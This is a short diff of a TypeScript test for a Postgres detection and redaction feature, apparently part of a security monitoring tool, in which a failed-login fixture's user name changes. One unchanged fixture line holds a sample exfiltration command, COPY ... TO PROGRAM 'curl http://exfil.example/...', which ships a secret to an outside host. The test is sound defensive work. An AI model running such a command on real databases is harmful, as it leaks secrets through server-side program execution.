@@ -293,7 +293,7 @@ describe('DETECT=true with REDACT=true', () => {
     const PROGRAM_ID = '6eb730b1-0619-4ddc-9e28-9c3b9da40787';
     const SECRET = 'zebra-literal-7';
     // Failed logins whose statements quote a secret: the burst's evidence is kept in the state between invocations.
-    const quoting = (n: number) => ({ ...failedLogin(n, 'carol'), commandText: `SELECT '${SECRET}'` });
+    const quoting = (n: number) => ({ ...failedLogin(n, 'redacted-dave'), commandText: `SELECT '${SECRET}'` });
     const event = await eventWith('detect-redact', [
       [postgresEvent(1, { commandText: `COPY t TO PROGRAM 'curl http://exfil.example/${SECRET}'` }), quoting(2), quoting(3)],
       [quoting(4)],
